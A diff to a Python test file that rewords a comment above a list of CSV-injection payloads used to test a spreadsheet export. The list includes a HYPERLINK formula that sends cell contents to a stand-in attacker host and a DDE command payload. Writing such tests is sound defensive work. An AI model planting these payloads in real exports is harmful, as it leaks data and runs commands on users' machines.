@@ -21,7 +21,7 @@ from backcare.storage import open_store
 from backcare.storage.transfer import FORMULA_START
 
 runner = CliRunner()
-#: The payloads of the security review: formulas, DDE, a leading tab and a leading carriage return.
+#: Spreadsheet-formula payloads (OWASP CSV injection): formulas, DDE, a leading tab and a leading carriage return.
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"click")',
     "+cmd|' /C calc'!A0",
